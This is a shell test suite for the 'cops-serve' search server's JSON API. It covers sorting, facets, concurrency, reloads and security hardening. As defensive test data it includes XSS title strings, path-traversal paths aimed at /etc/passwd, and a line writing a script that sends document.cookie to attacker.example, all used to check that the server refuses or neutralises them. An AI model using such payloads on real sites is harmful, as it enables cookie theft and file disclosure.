#!/bin/sh
# cops-serve's JSON API on a generated index: the examples of serve/API.md,
# sort by date and the histogram against cops-query's counts, hostile
# titles as JSON strings, security headers, path traversal, oversized
# requests, slow clients, non-loopback refusal, reopening on a new commit,
# and a clean stop on SIGTERM.
. "$COPS_SRCDIR/tests/cli/lib.sh"
. "$COPS_SRCDIR/tests/cli/serve-lib.sh"

# wait_for_generation N: GET /health until it reports generation N (5 s
# at most); its answer is left in $OUT.
wait_for_generation()
{
    _tries=0
    while [ $_tries -lt 50 ]; do
        http get "$BASE/health"
        grep -q "\"generation\":$1[,}]" "$OUT" && break
        sleep 0.1
        _tries=$((_tries + 1))
    done
}

command -v python3 >/dev/null 2>&1 || skip_all "cops-serve API tests" "python3 is not installed"
index_serve_corpus

# --- starting
expect_exit 0 "--help" -- "$COPS_SERVE_PROG" --help
expect_stdout_contains "--public"
expect_exit 2 "a non-loopback address is refused" -- "$COPS_SERVE_PROG" -i idx --listen 0.0.0.0:0
expect_stderr_contains "not a loopback address"
expect_stderr_contains "give --public"
expect_exit 2 "an address is numeric" -- "$COPS_SERVE_PROG" -i idx --listen localhost:8080
expect_stderr_contains "not a numeric IPv4 or IPv6 address"
expect_exit 2 "a missing index" -- "$COPS_SERVE_PROG" -i nowhere --listen 127.0.0.1:0 \
    --www "$COPS_SRCDIR/serve/www"
expect_stderr_contains "nowhere"

start_server idx --poll 50 --client-timeout 1
check "the log names the address" grep -q "serving 34 documents on http://127.0.0.1:" "$TMP/server.log"

# --- the documented examples
run python3 "$COPS_SRCDIR/tests/cli/api-examples.py" "$BASE" "$COPS_SRCDIR/serve/API.md"
cp "$OUT" examples.out
report_lines examples.out

# --- the requests of the README and the man page, as written
for doc in README.md man/cops-serve.1; do
    sed -n "s|.*curl .*'http://127.0.0.1:8080\(/[^']*\)'.*|\1|p" "$COPS_SRCDIR/$doc" | sed 's/\\-/-/g' >doc-paths
    check "$doc shows a request" test -s doc-paths
    while IFS= read -r path; do
        http get "$BASE$path"
        json_check "$doc: GET $path" 'len(d["hits"]) == 3 and d["hits"][0]["date"] >= d["hits"][1]["date"]'
    done <doc-paths
done

# --- search
http get "$BASE/search?q=grant&n=100"
expect_stdout_contains "Content-Type: application/json"
expect_stdout_contains "X-Content-Type-Options: nosniff"
expect_stdout_contains "Content-Security-Policy: default-src 'none'; script-src 'self'"
json_check "every match counted, every hit returned" 'd["total"] == 34 and len(d["hits"]) == 34'
json_check "one index: hits name none" 'all("index" not in h for h in d["hits"])'
json_check "highlights are code-point ranges of the snippet" \
    'all(h["snippet"][s:e].lower() == "grant" for h in d["hits"] for s, e in h["highlights"])'
json_check "hostile titles are JSON strings, unchanged" \
    '{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>"} <= {h["title"] for h in d["hits"]}'

run "$COPS_QUERY_PROG" -i idx -c "grant date:2016"
in_2016=$(cat "$OUT")
http get "$BASE/search?q=grant&date=2016&n=1"
json_check "date= filters as date: does ($in_2016)" "d['total'] == $in_2016"

for order in date -date; do
    : >pages.json
    for offset in 0 10 20 30; do
        http get "$BASE/search?q=grant&sort=$order&n=10&offset=$offset"
        sed '1,/^$/d' "$OUT" >>pages.json
        echo >>pages.json
    done
    check "sort=$order: every match once, dated ones in order, undated last" python3 -c '
import json, sys
hits = [h for line in open("pages.json") if line.strip() for h in json.loads(line)["hits"]]
dates = [h["date"] for h in hits if h["date"]]
ordered = sorted(dates, reverse=sys.argv[1] == "-date")
ranks = [h["rank"] for h in hits]
sys.exit(0 if len({h["id"] for h in hits}) == 34 and dates == ordered and hits[-1]["date"] is None
         and ranks == list(range(1, 35)) else 1)' "$order"
done

http get "$BASE/facets?q=grant"
json_check "the histogram adds up" \
    'sum(y["count"] for y in d["years"]) + d["undated"] == d["total"] == 34 and sum(m["count"] for m in d["months"]) == 33'
json_check "its 2016 bar counts as cops-query does" "[y['count'] for y in d['years'] if y['year'] == '2016'] == [$in_2016]"

# --- concurrent requests: every thread answers, none corrupts another's
# search (one shared cops_index did: its analyzer is not thread-safe)
run python3 "$HTTP_CLIENT" parallel 12 40 "$BASE/search?q=grant&n=20" "$BASE/search?q=gr*&sort=-date" \
    "$BASE/facets?q=grant" "$BASE/doc/report-30?q=grant"
expect_stdout_is "200 480" "480 concurrent requests, all answered"
http get "$BASE/health"
expect_stdout_matches "^200" "and the server is still there"

# --- the document view: the whole stored text, by identifier
http get "$BASE/doc/xss-img?q=onerror"
json_check "its text comes as a JSON string" '"<img src=x onerror=alert(3)>" in d["text"]'
json_check "the whole text, past a snippet's 10,000 characters" \
    'd["text"].endswith("<script>alert(8)</script> the end") and len(d["text"]) > 12000 and not d["truncated"]'
json_check "its matches highlighted all through it" \
    '[d["text"][a:b] for a, b in d["highlights"]] == ["onerror", "onerror"] and d["highlights"][1][0] > 12000'
http get "$BASE/doc/%3Cb%3Exss-id%3C%2Fb%3E"
json_check "a hostile identifier, URL-encoded, without a query" \
    'd["id"] == "<b>xss-id</b>" and d["highlights"] == [] and d["query"] is None'
http get "$BASE/doc/nope?q=grant"
expect_stdout_matches "^404" "an unknown identifier"
http get "$BASE/doc/report-01?q=grant%20AND%20("
expect_stdout_matches "^400" "a query that does not parse"
json_check "says where" 'd["error"]["column"] == 11'
http get "$BASE/doc/report-01?q=$(printf '%01100d' 0)"
expect_stdout_matches "^413" "an oversized query"

# --- bad requests
http get "$BASE/search?q=grant&n=101"
expect_stdout_matches "^400"
expect_stdout_contains "n: expected a whole number from 1 to 100"
http get "$BASE/search?q=grant&sort=title"
expect_stdout_matches "^400"
http get "$BASE/search?q=grant&date=2016%20OR%20x"
expect_stdout_matches "^400"
http get "$BASE/search?q=grant&date=2016-13"
expect_stdout_matches "^400"
expect_stdout_contains "date: not a date"
http get "$BASE/search?q=$(printf '%01100d' 0)"
expect_stdout_matches "^413"
run python3 "$HTTP_CLIENT" method POST "$BASE/search?q=grant"
expect_stdout_matches "^405"
expect_stdout_contains "Allow: GET, HEAD"
run python3 "$HTTP_CLIENT" big-header "$BASE/health" 100000
expect_stdout_matches "^431"
http get "$BASE/health"
expect_stdout_matches "^200"

# --- a record's hit names its source: a stranger's record may take any id
# (another file's path too), and the source tells it apart
http get "$BASE/search?q=grant&n=1"
json_check "a record's hit has its source file and line" \
    'd["hits"][0]["source"]["file"].endswith("/docs.jsonl") and d["hits"][0]["source"]["line"] >= 1'

# --- the answers are ASCII: a C1 control (U+009B, CSI), a bidi override
# (U+202E) and a line separator (U+2028) of the query echoed in the answer
# are \u escapes, inert on a terminal that shows it
http get "$BASE/search?q=grant%C2%9B31m%E2%80%AE%E2%80%A8"
expect_stdout_matches "^200"
expect_stdout_contains '"query":"grant\u009B31m\u202E\u2028"' "C1, bidi and separator code points as \\u escapes"
check "the answer is ASCII" sh -c 'LC_ALL=C grep -q "[^ -~]" "$1" && exit 1; exit 0' sh "$OUT"

# --- files: only those of the page's folder
for path in /../configure.ac /%2e%2e/configure.ac /..%2fconfigure.ac /%2E%2E%2Fconfigure.ac \
    //etc/passwd /serve/www/app.js /.gitignore /app.js/ "/app.js%00.html" /cops-serve; do
    http get "$BASE$path"
    expect_stdout_matches "^404" "GET $path is refused"
    expect_stdout_lacks "$TMP" "without naming the server's paths"
done
http get "$BASE/"
expect_stdout_contains "text/html"
expect_stdout_contains '<script src="app.js" defer></script>'
mkdir www
cp "$COPS_SRCDIR/serve/www/index.html" www/
ln -s /etc/passwd www/passwd.txt
ln -s index.html www/link.html
mkfifo www/fifo.txt
stop_server
start_server idx --www "$TMP/www"
for path in /passwd.txt /link.html /fifo.txt; do
    http get "$BASE$path"
    expect_stdout_matches "^404" "$path (a link or a FIFO) is refused"
done
http get "$BASE/index.html"
expect_stdout_matches "^200"

# --- without --www, never the page of the current directory: a stranger's
# serve/www/app.js there would run in the page with every document in reach
stop_server
mkdir -p stranger/serve/www
echo 'location = "http://attacker.example/?" + document.cookie' >stranger/serve/www/app.js
cd stranger || exit 99
SERVE_WWW= start_server ../idx
cd "$TMP" || exit 99
http get "$BASE/app.js"
expect_stdout_matches "^200" "without --www: the build tree's page"
expect_stdout_lacks "attacker.example" "without --www: not the current directory's serve/www"

# --- sort by date is one search, whatever the number of dates (a walk of
# counting searches per date span ran out of --max-searches: 503)
stop_server
start_server idx --max-searches 1
http get "$BASE/search?q=grant&sort=-date&n=3&offset=2"
json_check "sort=-date within a budget of one search" \
    '[h["id"] for h in d["hits"]] == ["report-11", "report-23", "report-03"] and [h["rank"] for h in d["hits"]] == [3, 4, 5]'

# --- the histogram is one search too (cops_search_options.date_histogram),
# however many months hold matches: 2,400 months (1800 to 1999), more than
# the default budget of 2,000 searches a walk of date spans needed
http get "$BASE/facets?q=grant"
json_check "facets within a budget of one search" \
    'd["total"] == 34 and d["undated"] == 1 and sum(m["count"] for m in d["months"]) == 33'
awk 'BEGIN { for (i = 0; i < 2400; i++) {
    printf "{\"id\":\"l%d\",\"date\":\"%04d-%02d-%02d\",\"text\":\"ledger%s\"}\n", i,
        1800 + int(i / 12), 1 + i % 12, 1 + i % 28, i % 2 ? "" : " even" }
    for (i = 0; i < 5; i++) printf "{\"id\":\"u%d\",\"text\":\"ledger\"}\n", i }' >ledger.jsonl
run cops_index -q -i lidx ledger.jsonl
run cops_index -q -i lidx --delete l0 l13 u4
stop_server
start_server lidx
http get "$BASE/facets?q=ledger"
expect_stdout_matches "^200" "facets over 2,400 months answer"
json_check "every month counted once, deletions left out" \
    'd["total"] == 2402 and d["undated"] == 4 and len(d["months"]) == 2398 and len(d["years"]) == 200 and all(m["count"] == 1 for m in d["months"]) and d["years"][0] == {"year": "1800", "count": 11} and d["years"][1] == {"year": "1801", "count": 11} and d["months"][0]["month"] == "1800-02"'
http get "$BASE/search?q=even&date=1850..1859&facets=1&n=1"
json_check "and as a field of /search" \
    'd["total"] == 60 and d["facets"]["undated"] == 0 and len(d["facets"]["months"]) == 60 and len(d["facets"]["years"]) == 10 and d["facets"]["years"][0] == {"year": "1850", "count": 6}'

# --- slow clients: an idle connection is closed
stop_server
start_server idx --client-timeout 1 --poll 50
run python3 "$HTTP_CLIENT" slow "$BASE/health" 5
expect_stdout_matches "^closed after [12] s"
# a head sent a byte at a time is never idle, yet closed at the timeout
run python3 "$HTTP_CLIENT" trickle "$BASE/health" 6
expect_stdout_matches "^closed after [12] s" "a trickled request head is cut at the client timeout"
# one address holds at most --client-connections at once; others are served
stop_server
start_server idx --client-connections 3 --poll 50
run python3 "$HTTP_CLIENT" hold "$BASE/health" 3
expect_stdout_is refused "a fourth connection from one address is refused"
run python3 "$HTTP_CLIENT" hold "$BASE/health" 2
expect_stdout_is 200 "a third one is answered"
stop_server
start_server idx --client-timeout 1 --poll 50

# --- a new commit is served without a restart
printf '{"id":"late","title":"A late grant","date":"2019-01-02","text":"grant"}\n' >>docs.jsonl
run cops_index -q -i idx docs.jsonl
wait_for_generation 2
json_check "the new commit is picked up" 'd["generation"] == 2 and d["documents"] == 35'
http get "$BASE/search?q=grant&n=1"
json_check "and searched" 'd["total"] == 35'
# requests under way while two more commits replace the shared handle
python3 "$HTTP_CLIENT" parallel 8 150 "$BASE/search?q=grant&n=20" "$BASE/doc/report-30?q=grant" \
    "$BASE/search?q=grant&sort=-date" >parallel.out 2>&1 &
load_pid=$!
for commit in 3 4; do
    printf '{"id":"late-%s","title":"A late grant","date":"2019-01-02","text":"grant"}\n' $commit >>docs.jsonl
    run cops_index -q -i idx docs.jsonl
    wait_for_generation $commit
done
wait $load_pid
check "1,200 requests during two commits, all answered" grep -qx "200 1200" parallel.out
json_check "both commits picked up" 'd["generation"] == 4 and d["documents"] == 37'

# --- several indexes searched as one, each hit naming its index
printf '{"id":"desk-1","title":"Sheriff grant","date":"2020-03-04","text":"The sheriff got a grant."}\n' >desk.jsonl
# a stored text longer than /doc shows (256 KiB): "deputy" before and past the cut
awk 'BEGIN { printf "{\"id\":\"desk-long\",\"title\":\"Long\",\"text\":\"deputy \u00e9"
    for (i = 0; i < 40000; i++) printf " filler"; printf " deputy\"}\n" }' >>desk.jsonl
run cops_index -q -i idx2 desk.jsonl
stop_server
start_server idx -i idx2 --poll 50
check "the log counts the documents of both" grep -q "serving 39 documents" "$TMP/server.log"
http get "$BASE/search?q=grant&n=100"
json_check "-i idx -i idx2: the matches of both" 'd["total"] == 38 and len(d["hits"]) == 38'
json_check "each hit names its index" \
    '{h["id"]: h["index"] for h in d["hits"]}["desk-1"] == "idx2" and sum(h["index"] == "idx" for h in d["hits"]) == 37'
http get "$BASE/search?q=sheriff"
json_check "a word of one index only" 'd["total"] == 1 and d["hits"][0]["index"] == "idx2"'
http get "$BASE/doc/desk-1?q=sheriff"
json_check "its document opens" '"sheriff got a grant" in d["text"] and d["index"] == "idx2"'
http get "$BASE/doc/desk-long?q=deputy"
json_check "a long text is cut at 256 KiB, and says so" \
    'd["truncated"] and len(d["text"].encode()) in (262143, 262144) and d["length"] == 280016'
json_check "only the matches in what is shown are highlighted" 'd["highlights"] == [[0, 6]]'
printf '{"id":"desk-2","title":"Another sheriff","date":"2020-05-06","text":"sheriff"}\n' >>desk.jsonl
run cops_index -q -i idx2 desk.jsonl
wait_for_generation 2
json_check "a commit to the second index is picked up" 'd["generation"] == 2 and d["documents"] == 40'
expect_exit 2 "at most 64 indexes" -- "$COPS_SERVE_PROG" $(seq 65 | sed 's/.*/-i idx/') \
    --listen 127.0.0.1:0
expect_stderr_contains "at most 64 indexes"

# --- a Xapian-engine index: a build swaps in a fresh directory, which the
# watcher sees too; its document view and date order
stop_server
if index_engine xapian xidx docs.jsonl; then
    start_server xidx --poll 50
    http get "$BASE/doc/xss-img?q=onerror"
    json_check "xapian: the whole text, highlighted" \
        '[d["text"][a:b] for a, b in d["highlights"]] == ["onerror", "onerror"] and d["text"].endswith("the end")'
    http get "$BASE/facets?q=grant"
    json_check "xapian: facets by date spans (no library histogram)" \
        'sum(y["count"] for y in d["years"]) + d["undated"] == d["total"] == 37 and d["undated"] == 1'
    http get "$BASE/search?q=grant&sort=-date&n=3&offset=2"
    json_check "xapian: sort=-date as a native index sorts" \
        '[h["id"] for h in d["hits"]] == ["late-4", "report-07", "report-19"]'
    printf '{"id":"later","title":"A later grant","date":"2019-02-03","text":"grant"}\n' >>docs.jsonl
    run cops_index -q --engine xapian -i xidx docs.jsonl
    wait_for_generation 2
    json_check "xapian: the new build is picked up" 'd["generation"] == 2'
    http get "$BASE/search?q=grant&n=1"
    json_check "xapian: and searched" 'd["total"] == 38'
    http get "$BASE/doc/later"
    expect_stdout_matches "^200" "xapian: its new document opens"
fi

# --- SIGTERM: a clean stop
stop_server
check "SIGTERM stops it with status 0" test "$SERVER_RC" = 0
check "saying so" grep -q "SIGTERM: finishing the requests under way" "$TMP/server.log"

done_testing
